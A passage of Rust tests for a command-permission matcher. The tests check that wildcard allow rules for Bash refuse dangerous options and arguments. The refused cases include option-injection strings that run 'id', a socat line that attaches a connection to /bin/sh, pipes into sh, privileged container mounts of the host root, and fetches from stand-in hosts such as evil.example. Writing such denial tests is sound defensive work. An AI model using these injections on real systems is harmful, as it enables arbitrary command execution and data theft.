//! Stars of powerful programs stand for known options only.

use super::*;
use crate::programs::{self, Class};

/// Programs whose options are judged in another way: what they start is judged itself, or they run the script that a rule names.
const OTHERS: &[&str] = &[
    "bash",
    "builtin",
    "busybox",
    "bwrap",
    "chroot",
    "dash",
    "doas",
    "env",
    "eval",
    "exec",
    "expect",
    "flock",
    "lua",
    "luajit",
    "node",
    "nsenter",
    "parallel",
    "perl",
    "php",
    "pypy",
    "python",
    "python2",
    "python3",
    "ruby",
    "setarch",
    "setpriv",
    "sh",
    "source",
    "strace",
    "sudo",
    "systemd-run",
    "taskset",
    "toybox",
    "tsx",
    "unshare",
    "watch",
];

#[test]
fn every_program_that_can_run_others_has_a_list_of_its_harmless_options() {
    let powerful = [Class::Runs, Class::Unknown].into_iter().flat_map(programs::names_of);
    let open: Vec<&str> = powerful.filter(|name| programs::named(name).harmless.is_none()).collect();
    let known: Vec<&str> = OTHERS.iter().copied().filter(|name| open.contains(name)).collect();
    assert_eq!(open.iter().filter(|name| !OTHERS.contains(name)).collect::<Vec<_>>(), Vec::<&&str>::new());
    assert!(known.len() > 20, "{known:?}");
}

/// Whatever stands in front of it, and in whatever form.
#[test]
fn a_star_stands_for_no_option_that_nobody_knows() {
    let closed = [Class::Runs, Class::Unknown].into_iter().flat_map(programs::names_of);
    for name in closed.filter(|name| programs::named(name).closed) {
        let policy = allowing(&[&format!("Bash({name} --of-yesterday *)")]);
        let calls =
            ["--of-tomorrow", "--of-tomorrow=x", "-K --of-tomorrow", "-\u{e4}", "-q\u{e4}", "-n -- --of-tomorrow"];
        let calls: Vec<String> = calls.iter().map(|more| format!("{name} --of-yesterday {more}")).collect();
        denies(&policy, &calls.iter().map(String::as_str).collect::<Vec<_>>());
    }
}

#[test]
fn options_that_lead_elsewhere_must_be_spelled() {
    for (rule, granted, refused) in [
        (
            "gh repo clone acme/*",
            &["gh repo clone acme/x"][..],
            &[
                "gh repo clone acme/x -- -c core.sshCommand=id",
                "gh repo clone acme/x -- --template=x",
                "gh repo clone acme/x -u id",
                "gh repo clone acme/x -- -q",
            ][..],
        ),
        (
            "gh api repos/a/b/*",
            &["gh api repos/a/b/pulls --jq .x", "gh api repos/a/b/pulls --paginate -q .x"],
            &[
                "gh api repos/a/b/x -X DELETE",
                "gh api repos/a/b/x -f a=b",
                "gh api repos/a/b/x --method=POST",
                "gh api repos/a/b/x -H a:b",
            ],
        ),
        ("gh pr list *", &["gh pr list --json title -L 5 --state open", "gh pr list -R a/b"], &["gh pr list --web"]),
        ("gh pr view *", &["gh pr view 7 -c", "gh pr view 7 --comments --template x"], &["gh pr view 7 -w"]),
        (
            "go test *",
            &["go test ./...", "go test ./... -run X -v -count=1 -race"],
            &["go test ./... -exec id", "go test -toolexec=id ./...", "go test ./... -o x", "go test -overlay x ./..."],
        ),
        ("go run ./cmd *", &["go run ./cmd -x --y", "go run ./cmd a"], &[]),
        ("go run -race ./cmd *", &["go run -race ./cmd -foo"], &[]),
        (
            "gh api repos/o/r/*",
            &["gh api repos/o/r/pulls?state=all&per_page=5 --paginate"],
            &["gh api repos/o/r/pulls?x --method=POST", "gh api repos/o/r/../../x"],
        ),
        ("yarn test *", &["yarn test --watch"], &["yarn test --cwd x"]),
        ("pnpm run lint *", &["pnpm run lint --fix"], &[]),
        ("pnpm install *", &["pnpm install --frozen-lockfile"], &[]),
        (
            "docker exec mysql mysqldump app *",
            &["docker exec mysql mysqldump app --single-transaction"],
            &["docker exec mysql mysqldump app -h x"],
        ),
        ("ssh -p 22 host *", &["ssh -p 22 host 'ls|wc'", "ssh -p 22 host ls"], &[]),
        (
            "git push origin bot/*",
            &["git push origin bot/x -q"],
            &["git push origin bot/x -o ci.skip", "git push origin bot/x -oci.skip"],
        ),
        ("git rebase main *", &["git rebase main -q"], &["git rebase main --update-refs"]),
        ("git add notes *", &["git add notes -A"], &["git add notes -f x", "git add notes --force x"]),
        (
            "git fetch origin *",
            &["git fetch origin -p"],
            &["git fetch origin --depth=1", "git fetch origin --unshallow"],
        ),
        (
            "kubectl patch deploy web -p x *",
            &["kubectl patch deploy web -p x --type=merge"],
            &[
                "kubectl patch deploy web -p x -n a",
                "kubectl patch deploy web -p x --patch y",
                "kubectl patch deploy web -p x --patch-file=y",
            ],
        ),
        (
            "cargo publish -p a *",
            &["cargo publish -p a --locked"],
            &["cargo publish -p a -p b", "cargo publish -p a --workspace", "cargo publish -p a --all"],
        ),
        (
            "mvn -pl api deploy *",
            &["mvn -pl api deploy -q"],
            &["mvn -pl api deploy --projects b", "mvn -pl api deploy -DskipTests"],
        ),
        ("gradle publish *", &["gradle publish -q"], &["gradle publish --continue"]),
        ("gradle test *", &["gradle test --continue"], &[]),
        ("docker network create -d bridge x *", &[], &["docker network create -d bridge x --driver host"]),
        ("gh pr create -r alice *", &["gh pr create -r alice -t x"], &["gh pr create -r alice --reviewer evil"]),
        (
            "gcc-12 -o app a.c *",
            &["gcc-12 -o app a.c -Wall"],
            &["gcc-12 -o app a.c --output=x", "gcc-12 -o app a.c @x"],
        ),
        ("npm exec -- find . *", &["npm exec -- find . -name x"], &["npm exec -- find . -delete"]),
        ("pnpm exec find . *", &["pnpm exec find . -name x"], &["pnpm exec find . -delete"]),
        (
            "python3 -m pytest tests *",
            &["python3 -m pytest tests -q"],
            &["python3 -m pytest tests -p x", "python3 -m pytest tests @x"],
        ),
        (
            "python3.11 -m pip install -r r.txt *",
            &["python3.11 -m pip install -r r.txt -q"],
            &["python3.11 -m pip install -r r.txt -r x"],
        ),
        ("php8.2 -r 1 *", &["php8.2 -r 1 x"], &["php8.2 -r 1 -d auto_prepend_file=x"]),
        (
            "pip3.11 install -i http://a x *",
            &["pip3.11 install -i http://a x -q"],
            &["pip3.11 install -i http://a x -i http://h"],
        ),
        ("view notes.txt *", &["view notes.txt -n"], &["view notes.txt -c !id", "view notes.txt +!id"]),
        (
            "mysqldump -h db app users *",
            &["mysqldump -h db app users --single-transaction"],
            &["mysqldump -h db app users --where=1"],
        ),
        ("cargo test *", &["cargo test -- --nocapture"], &["cargo test -- --logfile=x"]),
        ("rsync -e ssh -a notes/ *", &["rsync -e ssh -a notes/ h:x"], &[]),
        ("scp -P 22 notes.txt *", &["scp -P 22 notes.txt h:x"], &[]),
        ("scp -P 22 notes.txt h:x *", &[], &["scp -P 22 notes.txt h:x i:y"]),
        ("docker import *", &["docker import x.tar"], &["docker import https://h/x"]),
        (
            "gh pr list *",
            &["gh pr list -R a/b"],
            &["gh pr list -R localhost/a/b", "gh pr list -Rlocalhost/a/b", "gh pr list --repo=h/a/b"],
        ),
        (
            "kubectl delete pod -l app=x *",
            &["kubectl delete pod -l app=x --wait"],
            &["kubectl delete pod -l app=x -A", "kubectl delete pod -l app=x --all-namespaces"],
        ),
        ("perl -le print(*)", &["perl -le print(11)"], &["perl -le print(qx:id:)"]),
        (
            "perl -pi -e s/version=*/version=2/ *",
            &["perl -pi -e s/version=1/version=2/ notes.txt"],
            &["perl -pi -e s/version=1/x/,system+q:id:,s//version=2/ a"],
        ),
        ("ruby -e puts(*)", &["ruby -e puts(11)"], &["ruby -e puts(%x:id:)"]),
        ("perl -ne print notes/*", &["perl -ne print notes/a.txt"], &[]),
        (
            "pnpm run *",
            &["pnpm run build --fix"],
            &["pnpm run --loglevel silent --dir evil build", "pnpm run --color always --config.script-shell=x build"],
        ),
        ("pnpm exec *", &[], &["pnpm exec --loglevel silent --dir evil ls"]),
        ("yarn run *", &[], &["yarn run --loglevel silent --cwd evil build"]),
        (
            "python3 -B -m pytest tests *",
            &["python3 -B -m pytest tests -q"],
            &["python3 -B -m pytest tests -p evil", "python3 -B -m pytest tests @x"],
        ),
        ("python3 -u -m pytest tests *", &["python3 -u -m pytest tests -q"], &["python3 -u -m pytest tests -p evil"]),
        (
            "python3 -W ignore -m pytest tests *",
            &["python3 -W ignore -m pytest tests -q"],
            &["python3 -W ignore -m pytest tests -p evil"],
        ),
        ("python3 -mpytest tests *", &["python3 -mpytest tests -q"], &["python3 -mpytest tests -p evil"]),
        (
            "emacs -Q --batch -l tangle.el *",
            &["emacs -Q --batch -l tangle.el x.org"],
            &["emacs -Q --batch -l tangle.el x.el -e eval-buffer", "emacs -Q --batch -l tangle.el x.el -f y"],
        ),
        ("vim -R notes.txt *", &["vim -R notes.txt -n"], &["vim -R notes.txt -e", "vim -R notes.txt -q x"]),
        ("nix build *", &["nix build .#app"], &["nix build github:a/b"]),
        ("nix search nixpkgs *", &["nix search nixpkgs -L"], &["nix search nixpkgs hello"]),
        ("rename s/a/b/ *", &["rename s/a/b/ x"], &["rename -u s/a/b/ system(1) f", "rename s/a/b/ -u x"]),
        ("watch -n 1 ls '|' wc -l *", &["watch -n 1 ls | wc -l x"], &["watch -n 1 ls | wc -l | sh"]),
        ("ssh host df -h '|' grep sda *", &[], &["ssh host df -h | grep sda | sh"]),
        ("gh api repos/*/issues", &["gh api repos/o/r/issues"], &["gh api repos/o/r/keys?x=/issues"]),
        ("mysql -D app -e x *", &["mysql -D app -e x -t"], &["mysql -D app -e x secret"]),
        (
            "docker run --rm -v /srv/sites/*:/site b",
            &["docker run --rm -v /srv/sites/a:/site b"],
            &["docker run --rm -v /srv/sites/../../:/site b"],
        ),
        ("git commit -m *", &["git commit -m x -a"], &["git commit -m x --no-verify", "git commit -m x -n"]),
        ("pg_dump app *", &["pg_dump app -a"], &["pg_dump -t app secret"]),
        (
            "python3 -u report.py *",
            &["python3 -u report.py -v", "python3 -u report.py -c x"],
            &["python3 -c x -u report.py"],
        ),
        ("python3 -B report.py *", &["python3 -B report.py -i"], &[]),
        ("g++ -I a x.cc *", &["g++ -I a x.cc -I b"], &[]),
        (
            "git push git@*.acme.com:bot/x.git main",
            &["git push git@h.acme.com:bot/x.git main"],
            &["git push git@evil:h.acme.com:bot/x.git main"],
        ),
        ("docker ps *", &["docker ps -f name=x", "docker ps -a"], &[]),
        ("docker container ls *", &["docker container ls -a -f name=x"], &[]),
        ("npm install *", &["npm install --save-dev x", "npm install -D x"], &["npm install --prefix x"]),
        (
            "rename -n *",
            &["rename -n -v"],
            &["rename -n s/a/b/ x", "rename -n -- -system(1) x", "rename -n -e x f", "rename -n -v system(1)"],
        ),
        (
            "rename s/a/b/ *",
            &["rename s/a/b/ x y", "rename s/a/b/ -n x", "rename -n s/a/b/ x"],
            &["rename s/a/b/ -e system(1) x"],
        ),
        ("vim -n *", &["vim -n x.txt"], &["vim -n scp://h/x", "vim -n +!id x", "vim -n /ssh:h:/x"]),
        (
            "brew install -q *",
            &["brew install -q jq"],
            &["brew install -q evil/tap/x", "brew install -q https://h/x.rb"],
        ),
        (
            "nix build --quiet nixpkgs#a *",
            &["nix build --quiet nixpkgs#a -L"],
            &["nix build --quiet nixpkgs#a b", "nix build --quiet nixpkgs#a github:x/y"],
        ),
        ("nix-shell --quiet *", &["nix-shell --quiet shell.nix"], &["nix-shell --quiet github:x/y"]),
        (
            "git stash push *",
            &["git stash push -m x -u", "git stash push -q"],
            &["git stash push -a", "git stash push --all"],
        ),
        ("sudo * ls", &[], &["sudo ls ls", "sudo -u x ls", "sudo id ls"]),
        ("go list -m *", &["go list -m -f {{.Path}} all"], &["go list -m -modfile=x all"]),
        ("journalctl -u nginx *", &["journalctl -u nginx -b -1"], &[]),
        ("docker service logs *", &["docker service logs -f web"], &[]),
        ("go run *", &["go run ./cmd --of-tomorrow"], &["go run -exec id ./cmd", "go run -- -exec id"]),
        (
            "docker compose -p app *",
            &["docker compose -p app up -d --build", "docker compose -p app ps -a"],
            &[
                "docker compose -p app -f x.yml up",
                "docker compose -p app --env-file x up",
                "docker compose -p app down -v",
                "docker compose -p app --of-tomorrow build -f x . run",
                "docker compose -p app -f x.yml run web",
                "docker compose -p app -Q up -f x.yml exec web",
            ],
        ),
        (
            "docker build -t app *",
            &["docker build -t app . --no-cache"],
            &["docker build -t app . -f x", "docker build -t app --secret id=x .", "docker build -t app --output=x ."],
        ),
        ("docker volume ls *", &["docker volume ls -q"], &["docker volume ls --cluster"]),
        ("docker exec web *", &["docker exec web ls -u x"], &[]),
        (
            "docker exec -i *",
            &["docker exec -i web ls"],
            &["docker exec -i -u root web ls", "docker exec -i --privileged web ls"],
        ),
        ("redis-cli get *", &["redis-cli get k", "redis-cli get -- -k"], &[]),
        (
            "redis-cli --raw *",
            &["redis-cli --raw get k", "redis-cli --raw lrange k 0 -1"],
            &["redis-cli --raw -h evil get k"],
        ),
        (
            "psql app *",
            &["psql app -c select␣1", "psql app --csv -c select␣1", "psql app -A -F , -t"],
            &["psql app bob", "psql app --csv bob", "psql app -c x bob", "psql app -At bob", "psql app -- bob"],
        ),
        ("psql -h db *", &["psql -h db app", "psql -h db --set a=b app"], &["psql -h db app bob"]),
        (
            "pg_restore x.dump *",
            &["pg_restore x.dump -l"],
            &["pg_restore x.dump -edprod", "pg_restore x.dump -C", "pg_restore x.dump -c"],
        ),
        (
            "pg_dumpall -h db *",
            &["pg_dumpall -h db --globals-only"],
            &["pg_dumpall -h db -th evil", "pg_dumpall -h db -l host=evil"],
        ),
        (
            "mysqladmin status *",
            &["mysqladmin status -v"],
            &["mysqladmin status -rhevil", "mysqladmin status -wh evil"],
        ),
        ("pipx install x *", &["pipx install x -q"], &["pipx install x --pip-args=x", "pipx install x --index-url x"]),
        (
            "uv tool install x *",
            &["uv tool install x -q"],
            &["uv tool install x --index-url x", "uv tool install x --with y"],
        ),
        (
            "tmux new-window -t bot *",
            &["tmux new-window -t bot -d -n x ls -a", "tmux new-window -t bot -n x"],
            &[
                "tmux new-window -t bot -n x -tprod",
                "tmux new-window -t bot -n x -c /",
                "tmux new-window -t bot -e A=b",
            ],
        ),
        (
            "openssl x509 -noout *",
            &["openssl x509 -noout -in c.pem -passin pass:x -checkhost a", "openssl x509 -noout -in file:c.pem"],
            &[
                "openssl x509 -noout -in org.openssl.engine:/x.so:k",
                "openssl x509 -noout -in=org.openssl.engine:/x.so:k",
                "openssl x509 -noout -in pkcs11:x",
                "openssl x509 -noout org.openssl.engine:x.so:k",
            ],
        ),
        ("openssl engine *", &["openssl engine -list"], &["openssl engine /x.so", "openssl engine -v x"]),
        (
            "openssl s_client -brief *",
            &["openssl s_client -brief -servername a -CAfile ca.pem"],
            &["openssl s_client -brief 127.0.0.1", "openssl s_client -brief -servername a evil"],
        ),
        (
            "kubectl patch deploy web *",
            &["kubectl patch deploy web -p {}", "kubectl patch deploy web --type merge -p {}"],
            &["kubectl patch deploy web -p -- -p {} --kubeconfig=x", "kubectl patch deploy web -p -- --server=x"],
        ),
        (
            "kubectl get *",
            &["kubectl get pods -w", "kubectl get -f a.yaml"],
            &["kubectl get -f -- --kubeconfig=x", "kubectl get -Rf -- --token=x", "kubectl get -w -- --server=x"],
        ),
        (
            "kubectl kustomize *",
            &["kubectl kustomize overlays/a"],
            &[
                "kubectl kustomize GitHub.com/evil/x",
                "kubectl kustomize HTTPS://h/x",
                "kubectl kustomize alice@127.0.0.1:x/y",
                "kubectl kustomize github.com:evil/x",
            ],
        ),
        (
            "docker --log-level error *",
            &["docker --log-level error ps -a", "docker --log-level error run --rm alpine"],
            &[
                "docker --log-level error -H tcp://h run --rm alpine",
                "docker --log-level error -H=tcp://h rm -f web exec",
                "docker --log-level error --config=x exec web ls",
                "docker --log-level error --context prod run --rm alpine",
            ],
        ),
        (
            "docker compose -p app *",
            &["docker compose -p app logs -f web", "docker compose -p app run --rm web ls"],
            &[
                "docker compose -p app -f x.yml logs web",
                "docker compose -p app -f=x.yml up -d web run",
                "docker compose -p app --project-directory x run web",
                "docker compose -p app run -v /:/h web",
            ],
        ),
        (
            "docker volume create *",
            &["docker volume create -d local a"],
            &["docker volume create --opt type=none --opt o=bind --opt device=/ a"],
        ),
        (
            "psql -d app -c 'select 1' *",
            &["psql -d app -c select␣1 -At"],
            &["psql -d app -c select␣1 bob", "psql -d app -c select␣1 -At -- bob"],
        ),
        ("psql --dbname=app *", &["psql --dbname=app -c x"], &["psql --dbname=app bob"]),
        (
            "pg_dump -h db *",
            &["pg_dump -h db app --schema-only", "pg_dump -h db -n a=b app"],
            &["pg_dump -h db sslmode='disable'host=127.0.0.1", "pg_dump -h db --verbose sslmode='disable'host=x"],
        ),
        ("psql -h db *", &["psql -h db app --set x=y"], &["psql -h db sslmode='disable'host=127.0.0.1"]),
        (
            "mysqladmin -h db status *",
            &["mysqladmin -h db status -v"],
            &["mysqladmin -h db status shutdown", "mysqladmin -h db status -v kill 5"],
        ),
        (
            "gh pr review 5 *",
            &["gh pr review 5 -b text"],
            &["gh pr review 5 -a", "gh pr review 5 --approve", "gh pr review 5 -r"],
        ),
        ("gh auth status *", &["gh auth status"], &["gh auth status -t", "gh auth status -h evil"]),
        ("gh repo sync me/fork *", &["gh repo sync me/fork"], &["gh repo sync me/fork -s evil/x"]),
        (
            "gh pr view *",
            &["gh pr view 7 -R me/x", "gh pr view 7 --repo=me/x"],
            &[
                "gh pr view -R evil.example/a/b",
                "gh pr view --repo=evil.example/a/b",
                "gh pr view https://evil.example/o/r/pull/1",
                "gh pr view HTTPS://evil.example/o/r/pull/1",
            ],
        ),
        (
            "gh api *",
            &["gh api repos/o/r/pulls", "gh api user"],
            &["gh api https://evil.example/x", "gh api repos/o/r/../../../user"],
        ),
        ("gh pr merge 5 *", &["gh pr merge 5 --squash"], &["gh pr merge 5 -R evil/y", "gh pr merge 5 --repo evil/y"]),
        (
            "mvn -q test *",
            &["mvn -q test -DskipITs", "mvn -q test -pl core", "mvn -q -o test"],
            &[
                "mvn -q test deploy",
                "mvn -q test org.evil:plugin:1:run",
                "mvn -q test -o deploy",
                "mvn -q test -ntp deploy",
            ],
        ),
        ("gradle build *", &["gradle build --info"], &["gradle build publish", "gradle build --info publish"]),
        ("just test *", &["just test -v"], &["just test deploy", "just test db=prod"]),
        ("just *", &["just test deploy"], &[]),
        (
            "rsync -a notes/ backup/ *",
            &["rsync -a notes/ backup/ -v"],
            &[
                "rsync -a notes/ backup/ evil:/x",
                "rsync -a notes/ backup/ rsync://evil/x",
                "rsync -a notes/ backup/ u@evil:",
            ],
        ),
        ("rsync -a notes/ *", &["rsync -a notes/ host:/x", "rsync -a notes/ backup/"], &[]),
        (
            "scp notes.txt host:dir/ *",
            &["scp notes.txt host:dir/ -v"],
            &["scp notes.txt host:dir/ evil:", "scp notes.txt host:dir/ evil:x/y"],
        ),
        (
            "systemctl --user enable x.timer *",
            &["systemctl --user enable x.timer y.timer"],
            &["systemctl --user enable x.timer ./evil.service", "systemctl --user enable x.timer /w/evil.service"],
        ),
        ("journalctl --user -u x *", &["journalctl --user -u x -n 5"], &["journalctl --user -u x --system"]),
        ("busctl --user *", &["busctl --user list"], &["busctl --user list --system"]),
        ("dbus-send --session *", &[], &["dbus-send --session --system x"]),
        (
            "git pull origin *",
            &["git pull origin main --ff-only"],
            &["git pull origin -j +main:victim -j4", "git pull origin --jobs +main:victim --jobs=4"],
        ),
        (
            "git checkout main *",
            &["git checkout main -- a"],
            &["git checkout main --no-overlay -- .", "git checkout main --pathspec-from-file=x"],
        ),
        ("git clean -fd notes *", &["git clean -fd notes"], &["git clean -fd notes --force", "git clean -fd notes -f"]),
        ("git merge -q *", &["git merge -q topic"], &["git merge -q --abort"]),
        ("patch -p0 -i fix.patch *", &["patch -p0 -i fix.patch a"], &["patch -p0 -i fix.patch -r todo.txt a"]),
        (
            "cargo -q *",
            &["cargo -q check", "cargo -q clippy -- -D warnings"],
            &["cargo -q --color always rustc -- -Clinker=x", "cargo -q clippy -- --print=link-args=x"],
        ),
        ("julia *", &["julia a.jl -e x"], &["julia -e 1", "julia -q -e 1"]),
        ("julia -q *", &["julia -q a.jl"], &["julia -q -e 1"]),
        ("fish -N *", &["fish -N a.fish"], &["fish -N -c id"]),
        ("zsh -f *", &["zsh -f a.zsh"], &["zsh -f -c id"]),
        ("R --vanilla *", &[], &["R --vanilla -e x"]),
        ("node *", &["node a.js"], &["node --env-file=x a.js", "node --openssl-config=x a.js"]),
        ("uv run find . -name *", &["uv run find . -name x"], &["uv run find . -name x -delete"]),
        ("uv run --frozen pytest *", &["uv run --frozen pytest -k foo"], &[]),
        (
            "uv run pytest tests *",
            &["uv run pytest tests -k foo"],
            &["uv run pytest tests -p evil", "uv run pytest tests @args"],
        ),
        ("npx find . -name *", &["npx find . -name x -type f"], &["npx find . -name x -delete"]),
        ("pytest tests *", &["pytest tests -q"], &["pytest tests @args"]),
        (
            "tmux send-keys -t bot *",
            &["tmux send-keys -t bot ls Enter"],
            &["tmux send-keys -t bot -X copy-pipe id", "tmux send-keys -t bot -K C-b"],
        ),
        (
            "apt-get install -y curl *",
            &["apt-get install -y curl jq"],
            &[
                "apt-get install -y curl openssh-server-",
                "apt-get install -y curl ./evil.deb",
                "apt-get install -y curl jq/sid",
            ],
        ),
        ("socat TCP:host:80 *", &[], &["socat TCP:host:80 EXEC:/bin/sh"]),
        (
            "docker run --network host *",
            &["docker run --network host --rm alpine ls -l"],
            &[
                "docker run --network host --privileged -v /:/h alpine",
                "docker run --network host --network none alpine",
                "docker run --network host --rm --network=none -v /:/h alpine",
            ],
        ),
        (
            "docker run --name test *",
            &["docker run --name test alpine"],
            &["docker run --name test --privileged alpine"],
        ),
        ("podman run --pid host *", &["podman run --pid host x"], &["podman run --pid host -v /:/h x"]),
        (
            "docker compose run --name test *",
            &["docker compose run --name test web"],
            &["docker compose run --name test -v /:/h web"],
        ),
        (
            "docker exec -u git web *",
            &["docker exec -u git web ls -l"],
            &["docker exec -u git -u root web ls", "docker exec -u git --privileged web ls"],
        ),
        (
            "kubectl exec -n test web *",
            &["kubectl exec -n test web -- sh"],
            &["kubectl exec -n test web -n prod -- sh"],
        ),
        ("kubectl run test -n staging *", &["kubectl run test -n staging x"], &["kubectl run test -n staging -n prod"]),
        ("sudo -u git find d *", &["sudo -u git find d -type f"], &["sudo -u git find d -delete"]),
        (
            "mysqladmin -h db ping *",
            &["mysqladmin -h db ping -psecret"],
            &["mysqladmin -h db ping -p shutdown", "mysqladmin -h db ping --password shutdown"],
        ),
        (
            "mvn test *",
            &["mvn test -Dtest=A -DskipITs"],
            &["mvn test -Dtest deploy", "mvn test -Dmaven.test.skip org.evil:plugin:1:run"],
        ),
        (
            "openssl s_client -quiet *",
            &["openssl s_client -quiet -serverpref"],
            &["openssl s_client -quiet -serverpref 127.0.0.1", "openssl s_client -quiet -security_debug 127.0.0.1"],
        ),
        (
            "duckdb a.db 'select 1' *",
            &["duckdb a.db select␣1 -csv -separator ,", "duckdb a.db select␣1 -safe"],
            &["duckdb a.db select␣1 -s .shell␣id", "duckdb a.db select␣1 -c x"],
        ),
        (
            "gh repo clone *",
            &["gh repo clone me/x"],
            &["gh repo clone alice@evil.example:a/b", "gh repo clone evil.example:a/b"],
        ),
        (
            "kubectl apply *",
            &["kubectl apply -f a.yaml"],
            &["kubectl apply -f alice@127.0.0.1:x/y", "kubectl apply -k github.com:evil/x"],
        ),
        ("gh repo edit me/x *", &["gh repo edit me/x"], &["gh repo edit me/x --visibility public"]),
        (
            "gh workflow run deploy.yml *",
            &["gh workflow run deploy.yml"],
            &["gh workflow run deploy.yml --json", "gh workflow run deploy.yml -f a=b"],
        ),
        ("ssh-keygen -E md5 *", &["ssh-keygen -E md5 -y"], &["ssh-keygen -E md5 -p", "ssh-keygen -E md5 -c"]),
        ("git switch -q *", &["git switch -q main"], &["git switch -q --orphan new"]),
        ("node -r ./x *", &[], &["node -r ./x --env_file=x", "node -r ./x --experimental_loader=./x.mjs"]),
        ("npx --yes eslint *", &["npx --yes eslint --fix a.js"], &["npx --yes --no-audit eslint --package=x b"]),
        ("npx --yes --no-audit eslint *", &[], &["npx --yes --no-audit eslint --package=x b"]),
        ("psql -dapp *", &["psql -dapp -c x"], &["psql -dapp postgres"]),
        ("psql -tAdapp *", &[], &["psql -tAdapp postgres"]),
        ("psql --dbn=app *", &[], &["psql --dbn=app postgres"]),
        ("sqlite3 -header -s a.db 'select 1' *", &[], &["sqlite3 -header -s a.db select␣1 .shell␣id"]),
        ("git rebase -q *", &["git rebase -q main"], &["git rebase -q --skip", "git rebase -q --abort"]),
        ("apt-get remove -y vim *", &["apt-get remove -y vim g++"], &["apt-get remove -y vim nginx+"]),
        ("mysqladmin -uroot ping *", &["mysqladmin -uroot ping"], &["mysqladmin -uroot ping shutdown"]),
        ("mysqladmin -p ping *", &[], &["mysqladmin -p ping shutdown"]),
        ("mysqladmin ping -uroot *", &[], &["mysqladmin ping -uroot shutdown"]),
        ("mvn -Pprod test *", &["mvn -Pprod test -q"], &["mvn -Pprod test deploy"]),
        ("mvn -B -Drevision=1 verify *", &[], &["mvn -B -Drevision=1 verify deploy"]),
        ("mvn -B -Dmaven.test.skip package *", &[], &["mvn -B -Dmaven.test.skip package deploy"]),
        ("mvn test -Pprod *", &[], &["mvn test -Pprod deploy"]),
        ("mvn -f a.xml *", &["mvn -f a.xml test deploy"], &[]),
        ("gradle -Dx=y build *", &[], &["gradle -Dx=y build publish"]),
        ("gradle --scan build *", &[], &["gradle --scan build publish"]),
        ("gradle build --no-scan *", &[], &["gradle build --no-scan publish"]),
        ("just -d. test *", &[], &["just -d. test deploy"]),
        ("just --yes test *", &[], &["just --yes test deploy"]),
        ("just test --yes *", &[], &["just test --yes deploy"]),
        ("psql -hdb app *", &["psql -hdb app -c x"], &["psql -hdb app postgres"]),
        ("psql --host db *", &["psql --host db app"], &["psql --host db app postgres"]),
        ("psql app -h db -Ubot *", &["psql app -h db -Ubot -c x"], &["psql app -h db -Ubot postgres"]),
        ("socat -u TCP:h:80 *", &[], &["socat -u TCP:h:80 EXEC:sh"]),
        ("socat TCP:h:80 -u *", &[], &["socat TCP:h:80 -u EXEC:sh"]),
        ("su -lbot *", &[], &["su -lbot root"]),
        ("crontab -l *", &["crontab -l"], &["crontab -l evil"]),
        ("gdb -q x *", &[], &["gdb -q x y"]),
        ("ed -s x *", &[], &["ed -s x !id"]),
        (
            "podman exec -l *",
            &["podman exec -l sh"],
            &["podman exec -l --privileged sh", "podman exec -l --env-file=x sh"],
        ),
        ("docker run --hostname at *", &[], &["docker run --hostname at -v /:/h x"]),
        ("uv run --extra test *", &[], &["uv run --extra test --env-file evil x", "uv run --extra test --with evil x"]),
        (
            "git clone https://github.com*",
            &["git clone https://github.com/a/b", "git clone https://github.com:443/a/b"],
            &[
                "git clone https://github.com.evil.example/x",
                "git clone https://github.com@evil.example/x",
                "git clone https://github.com:x@evil/y",
            ],
        ),
        (
            "kubectl apply -f https://a/*",
            &["kubectl apply -f https://a/x", "kubectl apply -f https://a/x/y"],
            &[
                "kubectl apply -f https://a/x,y",
                "kubectl apply -f https://a/x,https://evil/y",
                "kubectl apply -f https://a/x,y,git@evil:z/w",
            ],
        ),
        (
            "docker build -t app:1 *",
            &["docker build -t app:1 .", "docker build -t app:1 docker/web"],
            &[
                "docker build -t app:1 https://evil/ctx.git",
                "docker build -t app:1 git@evil:x.git",
                "docker build -t app:1 github.com/evil/x",
            ],
        ),
        ("docker run --rm app *", &["docker run --rm app https://h/x"], &[]),
        (
            "pytest tests *",
            &["pytest tests -q"],
            &["pytest tests /tmp/evil_test.py", "pytest tests ../x", "pytest tests --ignore=../x"],
        ),
        ("ssh-add -l *", &["ssh-add -l"], &["ssh-add -l -s x.so", "ssh-add -l -cs x.so", "ssh-add -lD"]),
        (
            "gcc -c main.c *",
            &[
                "gcc -c main.c -DX=1 -Iinclude -isystem a -std=c11 -fPIC -fsanitize=address -Wno-error=x -lm -march=native -MMD -g3",
            ],
            &[
                "gcc -c main.c -MF x",
                "gcc -c main.c -fprofile-generate",
                "gcc -c main.c -fdump-tree-all",
                "gcc -c main.c -Wl,-z,x",
                "gcc -c main.c -Wa,x",
                "gcc -c main.c -load x",
                "gcc -c main.c --sysroot=x",
                "gcc -c main.c -dumpdir x",
            ],
        ),
        (
            "pytest tests/*",
            &["pytest tests/a.py -q -x -k name --maxfail=1"],
            &["pytest tests/a.py -p x", "pytest tests/a.py -c x"],
        ),
        ("kubectl exec web -- *", &["kubectl exec web -- ls --kubeconfig x"], &[]),
        ("kubectl exec *", &["kubectl exec web -n a -- ls --x"], &["kubectl exec -n -- web --kubeconfig=x"]),
        ("sqlite3 a.db *", &["sqlite3 a.db -json select␣1"], &["sqlite3 a.db -vfs x", "sqlite3 a.db -unsafe-testing"]),
        (
            "git clone https://h/a/*",
            &["git clone https://h/a/b --depth 1 -q"],
            &["git clone https://h/a/b --reference x", "git clone https://h/a/b --separate-git-dir=x"],
        ),
        (
            "git push origin bot/*",
            &["git push origin bot/x -u"],
            &[
                "git push origin bot/x --all",
                "git push origin bot/x --tags",
                "git push origin bot/x --follow-tags",
                "git push origin bot/x --signed",
            ],
        ),
        ("git ls-remote origin *", &["git ls-remote origin --heads"], &["git ls-remote origin --of-tomorrow"]),
        ("git submodule update *", &["git submodule update --init"], &["git submodule update --reference x"]),
    ] {
        let policy = allowing(&[&format!("Bash({rule})")]);
        grants(&policy, granted);
        denies(&policy, refused);
    }
}

/// A rule for a subcommand alone grants all its options, so one that leaves the subcommand open beside an option does not cover it.
#[test]
fn a_rule_covers_no_subcommand_with_options_that_it_does_not_grant() {
    let covers =
        |outer: &str, inner: &str| BOT.covers(&ToolPattern::parse(outer).unwrap(), &ToolPattern::parse(inner).unwrap());
    for (outer, inner) in [
        ("Bash(docker --log-level error *)", "Bash(docker --log-level error run *)"),
        ("Bash(docker compose -p app *)", "Bash(docker compose -p app exec *)"),
        ("Bash(docker compose -p app *)", "Bash(docker compose -p app run *)"),
        ("Bash(kubectl get *)", "Bash(kubectl get -f -- --kubeconfig=x *)"),
        ("Bash(docker --log-level error *)", "Bash(docker --log-level error -H tcp://x run *)"),
